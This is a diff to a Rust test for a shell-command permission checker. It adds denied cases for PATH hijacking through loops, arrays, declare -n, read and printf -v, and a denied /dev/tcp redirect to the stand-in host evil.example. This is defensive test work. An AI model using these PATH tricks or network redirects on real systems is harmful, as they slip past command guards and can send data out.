@@ -145,6 +145,37 @@ fn each_refusal_names_its_rule() {
         ("rm -rf build", Verdict::Ask, "destructive"),
         ("echo 'unterminated", Verdict::Deny, "unparsable"),
         ("(( x = 1 ))", Verdict::Deny, "arithmetic_command"),
+        (
+            "for PATH in /tmp; do git status; done",
+            Verdict::Deny,
+            "environment",
+        ),
+        ("PATH[0]=/tmp; git status", Verdict::Deny, "environment"),
+        (
+            "declare -n ref=PATH; ref=/tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "read PATH <<< /tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "printf -v PATH %s /tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "git status < /dev/tcp/evil.example/80",
+            Verdict::Deny,
+            "network_redirect",
+        ),
+        (
+            "for x in a b; do git status; done",
+            Verdict::Allow,
+            "declared",
+        ),
     ];
     for (line, verdict, rule) in cases {
         let (got, rules) = fixture.verdict(line);
